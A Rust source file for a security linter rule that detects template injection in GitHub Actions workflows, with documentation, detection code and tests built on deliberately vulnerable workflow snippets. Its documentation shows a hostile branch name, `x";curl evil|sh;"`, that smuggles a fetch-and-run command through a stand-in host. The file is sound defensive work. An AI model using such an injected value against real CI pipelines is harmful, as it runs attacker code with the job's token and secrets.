//! `workflow/template-injection`.

use crate::base::text::plain;
use crate::check::workflow::{injected, jobs, place};
use crate::check::{Facts, Rule};
use crate::finding::{Area, Finding, Severity};
use crate::model::workflow::{Job, Step, Text, Workflow};

pub(super) static RULE: Rule = Rule {
    id: "workflow/template-injection",
    severity: Severity::High,
    area: Area::Workflows,
    summary: "a script of a workflow is put together from text that a stranger writes",
    docs: r#"`${{ … }}` is replaced in the text of a script before the shell reads it. A branch named `x";curl evil|sh;"` becomes a command, with the
job's token and secrets. Titles, bodies, branch names, commit messages and names of authors are anybody's.

**Behind it:** Ultralytics 8.3.41 (2024-12-04): a branch name in a pull request ran in a workflow and ended in poisoned releases.

```yaml
- run: echo "${{ github.head_ref }}"        # fires

- run: echo "$HEAD_REF"                      # does not
  env:
    HEAD_REF: ${{ github.head_ref }}
```

A comparison (`${{ github.head_ref == 'main' }}`) or `contains(…)` gives a truth value and is silent; `${{ env.HEAD_REF }}` is replaced
before the shell as well and fires. Scripts are `run:` and the `script:` of actions/github-script.

What to do: hand the value over by `env:`, and use the shell's own variable, in quotes.
"#,
    options: &[],
    run,
};

fn run(facts: &Facts<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    for (workflow, job) in jobs(facts.workflows) {
        for step in &job.steps {
            findings.extend(scripts(step).flat_map(|script| judge(workflow, job, step, script)));
        }
    }
    findings
}

fn scripts(step: &Step) -> impl Iterator<Item = &Text> {
    let of_action = if step.uses_action("actions/github-script") { step.input("script") } else { None };
    step.run.iter().chain(of_action)
}

fn judge(workflow: &Workflow, job: &Job, step: &Step, script: &Text) -> Vec<Finding> {
    let found = injected(workflow, job, step, &script.text).into_iter().map(|(offset, what)| {
        Finding::new(RULE.id, RULE.severity, format!("a script of job `{}` contains {}", plain(&job.id), plain(&what)))
            .at(place(workflow, script, offset))
            .because("it is replaced in the script's text before the shell reads it; anybody can write it")
            .help("hand it over by `env:` and use the shell's own variable, in quotes")
    });
    found.collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::case::Case;

    #[test]
    fn text_of_strangers_in_scripts() {
        let at = |line: u32, what: &str| format!("high .github/workflows/w.yml:{line}: a script of job `a` contains {what}");
        for (step, expected) in [
            ("- run: echo ${{ github.head_ref }}", vec![at(4, "`github.head_ref`")]),
            (
                "- run: |\n          true\n          echo ${{ github.event.issue.title }}",
                vec![at(6, "`github.event.issue.title`")],
            ),
            (
                "- {run: 'echo ${{ env.T }}', env: {T: '${{ github.head_ref }}'}}",
                vec![at(4, "`env.t`, which is `github.head_ref`")],
            ),
            (
                "- {uses: actions/github-script@v7, with: {script: 'x(${{ toJSON(github.event) }})'}}",
                vec![at(4, "`github.event`")],
            ),
            (
                "- {uses: Actions/GitHub-Script@v7, with: {script: 'x(\"${{ github.head_ref }}\")'}}",
                vec![at(4, "`github.head_ref`")],
            ),
            ("- run: echo ${{ format('{{{0}}}', github.head_ref) }}", vec![at(4, "`github.head_ref`")]),
            ("- {run: 'echo $T', env: {T: '${{ github.head_ref }}'}}", vec![]),
            ("- run: echo ${{ github.head_ref == 'main' }}", vec![]),
            ("- run: echo ${{ github.sha }} ${{ matrix.os }} ${{ github.event.number }}", vec![]),
            ("- {uses: x/y@v1, with: {title: '${{ github.head_ref }}'}}", vec![]),
        ] {
            let case = Case::new().workflow(&format!("jobs:\n  a:\n    steps:\n      {step}\n"));
            assert_eq!(case.run(&RULE), expected, "{step}");
        }
    }

    /// What a job hands on is as foreign as what it was given.
    #[test]
    fn text_of_strangers_by_way_of_a_job() {
        for (held, expected) in [
            (
                "github.head_ref",
                vec![
                    "high .github/workflows/w.yml:6: a script of job `b` contains `needs.first.outputs.x`, which is `github.head_ref`",
                ],
            ),
            ("github.sha", vec![]),
        ] {
            let first = format!("  First:\n    outputs: {{X: '${{{{ {held} }}}}'}}\n");
            let text =
                format!("jobs:\n{first}  b:\n    needs: First\n    steps: [{{run: 'echo ${{{{ needs.First.outputs.x }}}}'}}]\n");
            assert_eq!(Case::new().workflow(&text).run(&RULE), expected, "{text}");
        }
    }
}
